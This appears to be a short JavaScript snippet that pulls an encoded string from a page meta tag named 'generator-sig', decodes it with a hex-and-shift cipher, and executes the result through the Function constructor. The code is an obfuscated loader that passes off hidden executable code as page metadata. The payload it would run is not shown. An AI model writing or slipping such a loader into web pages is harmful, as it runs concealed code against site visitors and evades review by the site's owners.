const m = document.querySelector('meta[name="generator-sig"]').content;
const dec = m.match(/../g).map(x => String.fromCharCode(parseInt(x, 16) - 3)).join('');
Reflect.construct(Function, [dec])();
